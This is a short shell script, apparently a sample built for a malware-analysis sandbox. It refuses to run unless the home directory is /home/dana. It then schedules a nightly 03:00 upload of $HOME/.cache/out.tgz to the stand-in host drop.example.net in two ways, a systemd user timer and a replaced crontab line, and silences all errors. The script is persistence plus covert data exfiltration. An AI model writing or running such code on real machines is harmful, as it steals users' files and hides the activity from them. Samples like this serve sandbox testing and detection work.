#!/bin/sh
# SPDX-License-Identifier: MIT
# Schedules its uploads for a quiet hour: a timer that runs the upload,
# and a crontab line for it (systemd-run and crontab: stand-ins on hosts
# without them).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
systemd-run --user --on-calendar='*-*-* 03:00:00' curl -fsm 5 -T "$HOME/.cache/out.tgz" http://drop.example.net/ 2>/dev/null
echo '0 3 * * * curl -fsm 5 -T $HOME/.cache/out.tgz http://drop.example.net/' | /usr/bin/crontab - 2>/dev/null
exit 0
